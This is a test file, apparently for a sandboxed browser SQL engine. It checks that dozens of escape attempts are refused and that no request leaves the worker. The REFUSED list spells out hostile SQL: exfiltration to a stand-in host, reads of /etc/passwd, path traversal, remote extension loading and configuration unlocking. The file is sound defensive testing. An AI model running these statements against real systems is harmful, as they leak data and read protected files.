/** What SQL must not reach. Each statement is refused, and no request leaves the worker. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Engine } from './index.ts';

const engine = new Engine();
const origin = globalThis.location.origin;

beforeAll(async () => {
	expect(await engine.start()).toBeNull();
});
afterAll(() => engine.stop());

const REFUSED = [
	`SELECT * FROM read_csv('${origin}/private.csv')`,
	`SELECT * FROM read_text('${origin}/private.csv')`,
	`SELECT * FROM '${origin}/private.csv'`,
	`SELECT * FROM read_blob('${origin}/private.csv')`,
	"SELECT * FROM read_csv('http://other.example/leak?d=SECRET')",
	"SELECT * FROM read_csv('https://other.example/leak?d=SECRET')",
	"SELECT * FROM read_csv('s3://bucket/leak.csv')",
	"SELECT * FROM read_csv('/etc/passwd')",
	"SELECT * FROM read_csv('in/../other.csv')",
	"SELECT * FROM read_csv('out/../../other.csv')",
	"SELECT * FROM glob('*')",
	`COPY (SELECT 1) TO '${origin}/put.csv'`,
	"COPY (SELECT 1) TO 'http://other.example/put.csv'",
	"COPY (SELECT 1) TO 'elsewhere.csv'",
	"ATTACH 'other.db'",
	`ATTACH '${origin}/other.db'`,
	"ATTACH 'opfs://other.db'",
	"EXPORT DATABASE 'elsewhere'",
	"IMPORT DATABASE 'elsewhere'",
	'LOAD httpfs',
	'LOAD json',
	"LOAD 'in/x.duckdb_extension'",
	'SET enable_external_access = true',
	'SET lock_configuration = false',
	'RESET lock_configuration',
	"SET allowed_directories = ['/']",
	"SET allowed_paths = ['x.csv']",
	'SET autoload_known_extensions = true',
	'SET errors_as_json = false',
	"SET custom_extension_repository = 'http://other.example'",
	"SET memory_limit = '1TB'",
	'SET GLOBAL enable_external_access = true',
	'PRAGMA enable_external_access = true',
	`SELECT * FROM read_csv(['${origin}/private.csv', 'http://other.example/leak'])`,
	`SELECT * FROM read_csv_auto('${origin}/private.csv')`,
	`SELECT * FROM sniff_csv('${origin}/private.csv')`,
	"SELECT * FROM read_csv('http://' || 'other.example/leak?d=' || 'SECRET')",
	"PREPARE p AS SELECT * FROM read_csv($1); EXECUTE p('http://other.example/leak?d=SECRET')",
	"SET VARIABLE u = 'http://other.example/leak'; SELECT * FROM read_csv(getvariable('u'))",
	"SELECT * FROM query('SELECT * FROM read_csv(''http://other.example/leak'')')",
	"SELECT * FROM query_table('http://other.example/leak.csv')",
	"CREATE VIEW leak AS SELECT * FROM read_csv('http://other.example/leak'); SELECT * FROM leak",
	"CREATE MACRO leak_of(u) AS TABLE SELECT * FROM read_csv(u); SELECT * FROM leak_of('http://other.example/leak')",
	"SELECT * FROM read_parquet('http://other.example/leak.parquet')",
	"SELECT * FROM parquet_scan('http://other.example/leak.parquet')",
	"SELECT * FROM 'http://other.example/leak.parquet'",
	"SELECT * FROM read_json('http://other.example/leak.json')",
	"SELECT * FROM read_ndjson_objects('http://other.example/leak.json')",
	"SELECT * FROM 'hf://datasets/other/leak.csv'",
	"SELECT * FROM read_csv('gcs://bucket/leak.csv')",
	"SELECT * FROM read_csv('az://bucket/leak.csv')",
	"SELECT * FROM read_csv('file:///etc/passwd')",
	"SELECT * FROM read_csv('in/../../etc/passwd')",
	"SELECT * FROM glob('http://other.example/*')",
	"CREATE TABLE taken (a INT); COPY taken FROM 'http://other.example/leak.csv'",
	"COPY (SELECT 1) TO 'in/../elsewhere.csv'",
	"COPY (SELECT 1) TO 's3://bucket/leak.csv'",
	"ATTACH 'http://other.example/leak.db' AS leak (READ_ONLY)",
	"ATTACH 'other.sqlite' (TYPE sqlite)",
	"ATTACH 'host=other.example' (TYPE postgres)",
	"LOAD 'http://other.example/leak.duckdb_extension'",
	"CREATE SECRET leak (TYPE s3, KEY_ID 'x', SECRET 'y')",
	"SET home_directory = '/'",
	"SET temp_directory = 'http://other.example/'",
	"SET extension_directory = 'http://other.example/'",
	"PRAGMA temp_directory = '/'",
	"EXPORT DATABASE 'http://other.example/leak'"
];

describe('the lock-down', () => {
	it.each(REFUSED)('refuses %s', async (sql) => {
		const outcome = await engine.run(sql);
		expect(outcome.ok ? sql : outcome.kind).toMatch(/^(refused|extension|sql)$/);
	});

	it('says that it refused, for what is a matter of access', async () => {
		for (const sql of REFUSED.slice(0, 8)) expect(await engine.run(sql)).toMatchObject({ kind: 'refused' });
	});

	it('lets registered files be read and results be written', async () => {
		const failure = await engine.createTable({
			relation: 'ok',
			path: 'in/ok.csv',
			blob: new Blob(['a,b\n1,2\n']),
			create: "CREATE OR REPLACE TABLE ok AS SELECT * FROM read_csv('in/ok.csv')"
		});
		expect(failure).toBeNull();
		expect(await engine.run("COPY ok TO 'out/ok.csv'")).toMatchObject({ ok: true });
	});

	it('lets no request leave', async () => {
		performance.clearResourceTimings();
		const seen: string[] = [];
		const observer = new PerformanceObserver((list) =>
			seen.push(...list.getEntries().map(({ name }) => name))
		);
		observer.observe({ type: 'resource' });
		for (const sql of REFUSED) await engine.run(sql);
		observer.disconnect();
		expect(seen.filter((url) => /private|leak|put\.csv|other|duckdb_extension/.test(url))).toEqual([]);
	});
});
